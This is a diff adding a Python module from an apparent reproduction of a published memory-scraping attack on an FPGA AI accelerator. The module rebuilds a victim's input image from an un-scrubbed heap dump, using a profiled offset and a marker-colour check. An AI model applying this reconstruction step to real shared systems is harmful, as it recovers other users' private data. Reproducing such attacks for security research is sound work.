@@ -1,0 +1,104 @@
+"""Step 4.b — reconstructing the victim's input image.
+
+Two ingredients, both from the paper:
+
+- the **corruption marker check** (Fig. 12): the victim's known-marker
+  pixels (``0xFFFFFF``) show up as solid ``FFFF FFFF`` hexdump rows,
+  confirming the image survived termination un-scrubbed; and
+- the **profiled offset**: the image's byte offset from the heap base,
+  learned offline with the ``0x555555`` pass, is applied to the
+  victim's dump to slice out the raw RGB buffer and rebuild the
+  picture.
+
+Reconstruction does not *require* the victim to have used a corrupted
+image — the offset alone recovers arbitrary inputs; the marker check
+is reported when present because the paper uses it as its visual
+proof.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.attack.config import AttackConfig
+from repro.attack.extraction import ScrapedDump
+from repro.attack.profiling import ModelProfile
+from repro.errors import ReconstructionError
+from repro.vitis.image import Image
+
+
+@dataclass
+class ReconstructionResult:
+    """A recovered input image plus the evidence trail."""
+
+    image: Image
+    image_offset: int
+    marker_rows: list[int]
+    used_profile: str
+
+    @property
+    def corruption_marker_seen(self) -> bool:
+        """Whether the Fig. 12 solid-marker rows were present."""
+        return bool(self.marker_rows)
+
+    def describe(self) -> str:
+        """One-line summary for the attack report."""
+        marker = (
+            f"{len(self.marker_rows)} solid marker rows"
+            if self.marker_rows
+            else "no corruption marker"
+        )
+        return (
+            f"reconstructed {self.image.width}x{self.image.height} image "
+            f"from heap offset {self.image_offset:#x} ({marker})"
+        )
+
+
+class ImageReconstructor:
+    """Applies a model profile to a victim dump."""
+
+    def __init__(self, config: AttackConfig | None = None) -> None:
+        self._config = config or AttackConfig()
+
+    def find_marker_rows(self, dump: ScrapedDump) -> list[int]:
+        """Hexdump rows that are solid corruption marker (Fig. 12).
+
+        Meaningful only when the marker colour tiles a 32-bit word
+        pattern; ``0xFFFFFF`` pixels make solid ``0xFF`` bytes, so any
+        word view is solid too.
+        """
+        red, green, blue = self._config.corruption_marker
+        if not red == green == blue:
+            raise ReconstructionError(
+                "corruption marker must be grayscale to tile 32-bit words"
+            )
+        word = int.from_bytes(bytes([red]) * 4, "little")
+        return dump.hexdump.marker_run_rows(
+            word, minimum_rows=self._config.marker_min_rows
+        )
+
+    def reconstruct(
+        self, dump: ScrapedDump, profile: ModelProfile
+    ) -> ReconstructionResult:
+        """Slice the image out of the dump at the profiled offset.
+
+        Raises :class:`~repro.errors.ReconstructionError` when the
+        profiled range does not fit the dump (a profile from a
+        different configuration, or a truncated scrape).
+        """
+        start = profile.image_offset
+        end = start + profile.image_nbytes
+        if end > dump.nbytes:
+            raise ReconstructionError(
+                f"profiled image range [{start:#x}, {end:#x}) exceeds "
+                f"dump size {dump.nbytes:#x}"
+            )
+        image = Image.from_raw_rgb(
+            dump.data[start:end], profile.image_width, profile.image_height
+        )
+        return ReconstructionResult(
+            image=image,
+            image_offset=start,
+            marker_rows=self.find_marker_rows(dump),
+            used_profile=profile.model_name,
+        )
